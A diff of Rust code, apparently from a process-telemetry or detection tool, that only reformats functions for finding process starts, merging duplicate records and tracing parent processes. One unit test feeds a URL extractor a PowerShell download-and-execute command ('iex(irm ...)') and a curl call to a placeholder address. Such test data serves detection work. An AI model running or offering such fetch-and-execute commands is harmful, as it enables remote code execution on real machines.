@@ -49,20 +49,13 @@ pub const QUOTE: usize = 300;
 pub fn starts<'a>(rows: View<'a>) -> Vec<Row<'a>> {
     let mut out: Vec<Row<'a>> = Vec::with_capacity(rows.len());
     let mut sources = Vec::new();
-    for row in rows
-        .iter()
-        .filter(|r| r.text(common::ACTION) == Some("start"))
-    {
+    for row in rows.iter().filter(|r| r.text(common::ACTION) == Some("start")) {
         if !sources.contains(&row.id(common::SOURCE)) {
             sources.push(row.id(common::SOURCE));
         }
         out.push(row);
     }
-    if sources.len() > 1 {
-        without_twins(out)
-    } else {
-        out
-    }
+    if sources.len() > 1 { without_twins(out) } else { out }
 }
 
 fn without_twins(starts: Vec<Row<'_>>) -> Vec<Row<'_>> {
@@ -76,10 +69,7 @@ fn without_twins(starts: Vec<Row<'_>>) -> Vec<Row<'_>> {
         let key = (row.id(common::HOST), pid, row.id(t::IMAGE_NAME));
         let twin = last.get(&key).and_then(|at| out.get_mut(*at));
         match twin {
-            Some(twin)
-                if row.ts() - twin.ts() <= TWIN_US
-                    && twin.id(common::SOURCE) != row.id(common::SOURCE) =>
-            {
+            Some(twin) if row.ts() - twin.ts() <= TWIN_US && twin.id(common::SOURCE) != row.id(common::SOURCE) => {
                 if richness(row) > richness(*twin) {
                     *twin = row;
                 }
@@ -133,11 +123,7 @@ impl<'a> Lineage<'a> {
     /// The start of a row's parent: by its GUID, else the last start of its process id before the row, if that was
     /// the program which the row names as its parent.
     pub fn parent(&self, row: Row<'a>) -> Option<Row<'a>> {
-        if let Some(parent) = self
-            .by_guid
-            .get(&row.id(t::PARENT_GUID))
-            .filter(|p| p.at() != row.at())
-        {
+        if let Some(parent) = self.by_guid.get(&row.id(t::PARENT_GUID)).filter(|p| p.at() != row.at()) {
             return Some(*parent);
         }
         let of_pid = self.by_pid.get(&row.int(t::PPID)?)?;
@@ -335,8 +321,7 @@ mod tests {
 
     #[test]
     fn urls_end_where_their_quotes_end() {
-        let found =
-            urls("iex(irm 'http://192.0.2.1/a'); curl http://192.0.2.1/a https://b.example/x?y=1)");
+        let found = urls("iex(irm 'http://192.0.2.1/a'); curl http://192.0.2.1/a https://b.example/x?y=1)");
         assert_eq!(
             found,
             [
